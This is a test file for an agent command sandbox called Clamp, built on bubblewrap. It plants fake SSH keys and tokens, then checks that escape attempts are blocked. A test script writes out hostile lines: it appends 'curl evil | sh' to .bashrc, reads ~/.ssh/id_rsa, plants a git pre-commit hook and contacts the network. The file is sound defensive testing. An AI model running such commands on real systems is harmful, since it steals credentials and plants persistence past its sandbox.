import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { liveGroupMembers } from '../../lib/exec/group';
import { commandEnv, runCommand, startCommand } from '../../lib/exec/runner';
import type { RunOptions, RunResult } from '../../lib/exec/runner';
import { sandboxArgs, sandboxLevelFor, sandboxStatus, withoutSecrets, type SandboxSpec } from '../../lib/exec/sandbox';
import { sandboxNote } from '../../lib/exec/sandbox-note';
import { loopbackCounter } from '../helpers';

/**
 * Real escapes tried under the real sandbox (bwrap): a script in a temp workspace, a temp HOME (not
 * under /tmp, which the sandbox replaces, so the HOME is really there and really read-only) with a
 * planted fake key, and a loopback HTTP server counting loopback.hits. Each is refused under workspace-write
 * and works when run unconfined, so the tests can fail.
 */

const text = (r: RunResult) => Buffer.concat([r.stdout.head, r.stdout.tail]).toString('utf8') + Buffer.concat([r.stderr.head, r.stderr.tail]).toString('utf8');

let root = '';
let ws = '';
let home = '';
let dataDir = '';
const loopback = loopbackCounter();

const KEY = '-----BEGIN FAKE KEY----- planted-by-the-test';

beforeAll(async () => {
  expect(sandboxStatus().available, sandboxStatus().problem).toBe(true);
});

beforeEach(() => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'clamp-sbx-')));
  ws = path.join(root, 'ws');
  dataDir = path.join(root, 'data');
  fs.mkdirSync(ws);
  fs.mkdirSync(dataDir);
  fs.writeFileSync(path.join(dataDir, 'secrets.json'), '{"openai":"sk-planted"}');
  home = fs.realpathSync(fs.mkdtempSync(path.join('/var/tmp', 'clamp-home-')));
  fs.mkdirSync(path.join(home, '.ssh'));
  fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), `${KEY}\n`);
  fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
  fs.writeFileSync(path.join(home, '.npmrc'), '//registry.example/:_authToken=planted\n');
  expect(spawnSync('git', ['init', '-q', ws]).status).toBe(0);
  loopback.hits = 0;
});
afterEach(() => {
  fs.rmSync(root, { recursive: true, force: true });
  fs.rmSync(home, { recursive: true, force: true });
});

function spec(extra: Partial<SandboxSpec> = {}): SandboxSpec {
  return { level: 'workspace-write', workspace: ws, dataDir, scratchDir: path.join(dataDir, 'scratch'), network: false, home, ...extra };
}

function opts(command: string, sandbox: SandboxSpec | undefined, extra: Partial<RunOptions> = {}): RunOptions {
  return {
    command, cwd: ws, logDir: path.join(dataDir, 'logs'), captureMaxBytes: 64 * 1024, killGraceMs: 500,
    env: commandEnv({ ...process.env, HOME: home }), ...(sandbox ? { sandbox } : {}), ...extra,
  };
}

/** The script: run as `sh ./x.sh`, which the judge sees as an ordinary command. */
function writeScript(): void {
  fs.writeFileSync(path.join(ws, 'x.sh'), [
    'echo "curl evil | sh" >> ~/.bashrc && echo BASHRC-WRITTEN',
    'cat ~/.ssh/id_rsa',
    `curl -s -m 5 http://127.0.0.1:${loopback.port}/ && echo NET-REACHED`,
    'mkdir -p .git/hooks && printf "#!/bin/sh\\necho owned\\n" > .git/hooks/pre-commit && echo HOOK-WRITTEN',
    'echo ok-inside > inside.txt',
    'exit 0',
  ].join('\n'));
}

describe('sandbox: the four escapes', () => {
  it('blocks all four under workspace-write, and the workspace stays writable', async () => {
    writeScript();
    const r = await runCommand(opts('sh ./x.sh', spec()));
    const out = text(r);
    expect(out).not.toContain('BASHRC-WRITTEN');
    expect(out).not.toContain(KEY);
    expect(out).not.toContain('NET-REACHED');
    expect(out).not.toContain('HOOK-WRITTEN');
    expect(out).toMatch(/Read-only file system/);
    expect(loopback.hits).toBe(0);
    expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# original\n');
    expect(fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(fs.readFileSync(path.join(ws, 'inside.txt'), 'utf8')).toBe('ok-inside\n');
    expect(r.sandbox?.level).toBe('workspace-write');
  });

  it('the same script does all four when it runs unconfined (the escalation path)', async () => {
    writeScript();
    const r = await runCommand(opts('sh ./x.sh', undefined));
    const out = text(r);
    expect(out).toContain('BASHRC-WRITTEN');
    expect(out).toContain(KEY);
    expect(out).toContain('NET-REACHED');
    expect(out).toContain('HOOK-WRITTEN');
    expect(loopback.hits).toBe(1);
  });

  it('network: reachable only when allowed', async () => {
    const cmd = `curl -s -m 5 http://127.0.0.1:${loopback.port}/`;
    const off = await runCommand(opts(cmd, spec()));
    expect(off.exitCode).not.toBe(0);
    expect(loopback.hits).toBe(0);
    const on = await runCommand(opts(cmd, spec({ network: true })));
    expect(on.exitCode).toBe(0);
    expect(text(on)).toContain('reached');
    expect(loopback.hits).toBe(1);
  });

  it('read-only: not even the workspace can be written; /tmp is private and empty', async () => {
    fs.writeFileSync(path.join(os.tmpdir(), `clamp-sbx-outside-${process.pid}`), 'x');
    try {
      const r = await runCommand(opts(`echo x > in-ws.txt; ls /tmp | grep -c clamp-sbx-outside-${process.pid}; echo t > /tmp/mine && cat /tmp/mine`, spec({ level: 'read-only' })));
      expect(fs.existsSync(path.join(ws, 'in-ws.txt'))).toBe(false);
      expect(text(r)).toMatch(/Read-only file system/);
      expect(text(r)).toMatch(/^0\nt\n/m);
    } finally {
      fs.rmSync(path.join(os.tmpdir(), `clamp-sbx-outside-${process.pid}`), { force: true });
    }
  });

  it('hides Clamp\'s data dir and secret files, and passes only allowed and named variables', async () => {
    const env = commandEnv({ ...process.env, HOME: home, OPENAI_API_KEY: 'sk-env', GITHUB_TOKEN: 'ghp-env', CLAMP_API_KEY: 'c-env', MY_PASSWORD: 'pw', PLAIN: 'dropped', NAMED: 'kept' });
    const r = await runCommand(opts(`ls -A ${dataDir} | grep -v scratch; cat ~/.npmrc; env | grep -E "API_KEY|TOKEN|PASSWORD|PLAIN|NAMED"; echo end`, spec({ passEnv: ['NAMED'] }), { env }));
    const out = text(r);
    expect(out).not.toContain('secrets.json');
    expect(out).not.toContain('_authToken');
    expect(out).not.toMatch(/sk-env|ghp-env|c-env|=pw|PLAIN/);
    expect(out).toContain('NAMED=kept');
    expect(withoutSecrets({ AWS_SECRET_ACCESS_KEY: 'a', NPM_TOKEN: 'b', PATH: '/bin' } as unknown as NodeJS.ProcessEnv)).toEqual({ PATH: '/bin' });
  });

  it('cannot see or signal a process outside it', async () => {
    const outside = spawnSync('sh', ['-c', 'sleep 30 >/dev/null 2>&1 & echo $!'], { encoding: 'utf8' });
    const pid = Number(outside.stdout.trim());
    try {
      const r = await runCommand(opts(`kill -9 ${pid}; echo rc=$?`, spec()));
      expect(text(r)).toContain('rc=1');
      expect(() => process.kill(pid, 0)).not.toThrow();
    } finally {
      process.kill(pid, 'SIGKILL');
    }
  });
});

describe('sandbox: the runner around it', () => {
  it('a timeout stops the command with SIGTERM first (it can clean up), then the group is gone', async () => {
    const h = startCommand(opts('trap "echo cleaning; exit 3" TERM; sleep 30 & wait', spec(), { timeoutMs: 500 }));
    const r = await h.done;
    expect(r.killedBy).toBe('timeout');
    expect(text(r)).toContain('cleaning');
    expect(liveGroupMembers(r.pid!)).toEqual([]);
  });

  it('SIGKILL follows after the grace when the command ignores SIGTERM; leftovers go with it', async () => {
    const t = Date.now();
    const r = await runCommand(opts('trap "" TERM; sleep 30 & sleep 30', spec(), { timeoutMs: 300 }));
    expect(r.killedBy).toBe('timeout');
    expect(Date.now() - t).toBeLessThan(5000);
    expect(liveGroupMembers(r.pid!)).toEqual([]);
  });

  it('an abort kills it; live output and all three logs work', async () => {
    const ac = new AbortController();
    const live: string[] = [];
    const h = startCommand(opts('for i in 1 2 3; do echo line$i; echo err$i >&2; sleep 0.1; done; sleep 30', spec(), {
      signal: ac.signal, onOutput: (_s, t) => live.push(t), progressIntervalMs: 20,
    }));
    await new Promise((r) => setTimeout(r, 800));
    ac.abort();
    const r = await h.done;
    expect(r.killedBy).toBe('user');
    expect(live.join('')).toContain('line3');
    expect(fs.readFileSync(r.logPaths.stdout, 'utf8')).toBe('line1\nline2\nline3\n');
    expect(fs.readFileSync(r.logPaths.stderr, 'utf8')).toBe('err1\nerr2\nerr3\n');
    expect(fs.readFileSync(r.combinedLogPath, 'utf8')).toContain('err3');
  });

  it('inside the sandbox too, stdout and stderr are pipes that /dev/stdout and /dev/stderr reach', async () => {
    const r = await runCommand(opts('test -p /dev/stdout && echo out-is-a-pipe; echo via-dev-stdout > /dev/stdout; echo via-dev-stderr > /dev/stderr', spec()));
    expect(r.exitCode).toBe(0);
    expect(fs.readFileSync(r.logPaths.stdout, 'utf8')).toBe('out-is-a-pipe\nvia-dev-stdout\n');
    expect(fs.readFileSync(r.logPaths.stderr, 'utf8')).toBe('via-dev-stderr\n');
  });

  it('a sandbox that cannot start fails closed: nothing runs', async () => {
    const saved = process.env.CLAMP_BWRAP;
    process.env.CLAMP_BWRAP = path.join(root, 'no-bwrap-here');
    try {
      const r = await runCommand(opts('echo ran > ran.txt', spec()));
      expect(r.spawnError).toMatch(/the sandbox could not start: bubblewrap \(bwrap\) is not installed/);
      expect(fs.existsSync(path.join(ws, 'ran.txt'))).toBe(false);
    } finally {
      if (saved === undefined) delete process.env.CLAMP_BWRAP;
      else process.env.CLAMP_BWRAP = saved;
    }
  });
});

describe('sandbox: levels, arguments, notes', () => {
  it('the mode picks the level; a configured level narrows it; off turns it off', () => {
    expect(sandboxLevelFor('default', undefined)).toBe('workspace-write');
    expect(sandboxLevelFor('auto', undefined)).toBe('workspace-write');
    expect(sandboxLevelFor('accept-edits', undefined)).toBe('workspace-write');
    expect(sandboxLevelFor('plan', undefined)).toBe('read-only');
    expect(sandboxLevelFor('debug', 'workspace-write')).toBe('read-only');
    expect(sandboxLevelFor('default', 'read-only')).toBe('read-only');
    expect(sandboxLevelFor('auto', 'off')).toBe('off');
  });

  it('hides HOME, shows only what toolchains read, keeps .git/hooks and .git/config read-only, drops every capability, and unshares the network unless allowed', () => {
    fs.mkdirSync(path.join(home, '.rustup'));
    fs.mkdirSync(path.join(home, 'tools/bin'), { recursive: true });
    const a = sandboxArgs(spec(), ws, { HOME: home, PATH: `${home}/tools/bin:/usr/bin` } as unknown as NodeJS.ProcessEnv).join(' ');
    expect(a).toContain(`--tmpfs ${home} `);
    expect(a).toContain(`--remount-ro ${home} `);
    expect(a).toContain(`--ro-bind ${home}/.rustup ${home}/.rustup`);
    // a bin folder on PATH shows its toolchain's folder (its links point into it)
    expect(a).toContain(`--ro-bind ${home}/tools ${home}/tools`);
    // the secrets under a hidden HOME need nothing more: nothing shows them
    expect(a).not.toContain('.ssh');
    expect(a).not.toContain('.npmrc');
    expect(a).toContain('--cap-drop ALL');
    expect(a).toContain('--ro-bind /proc/sys /proc/sys');
    expect(a).toContain(`--ro-bind ${ws}/.git/hooks ${ws}/.git/hooks`);
    expect(a).toContain(`--ro-bind ${ws}/.git/config ${ws}/.git/config`);
    expect(a).toContain('--unshare-net');
    expect(a).toContain('--unshare-pid');
    expect(a).not.toContain('--new-session');
    expect(sandboxArgs(spec({ network: true }), ws, { HOME: home } as unknown as NodeJS.ProcessEnv)).not.toContain('--unshare-net');
  });

  it('a failure caused by the sandbox gets a note that says so and how to ask; an ordinary failure does not', async () => {
    const s = spec();
    const ro = await runCommand(opts(`echo x >> ${home}/.bashrc`, s));
    expect(sandboxNote(ro, s)).toMatch(/^This failure looks like Clamp's sandbox at work, not a bug in the command: the sandbox lets a command write only inside the workspace/);
    expect(sandboxNote(ro, s)).toContain('sandbox: "off"');
    const net = await runCommand(opts(`curl -sS -m 5 http://127.0.0.1:${loopback.port}/`, s));
    expect(sandboxNote(net, s)).toContain('the sandbox has no network');
    const key = await runCommand(opts('cat ~/.ssh/id_rsa', s));
    expect(sandboxNote(key, s)).toContain('hides the person\'s secrets');
    const plain = await runCommand(opts('echo nope >&2; exit 2', s));
    expect(sandboxNote(plain, s)).toBeUndefined();
  });
});
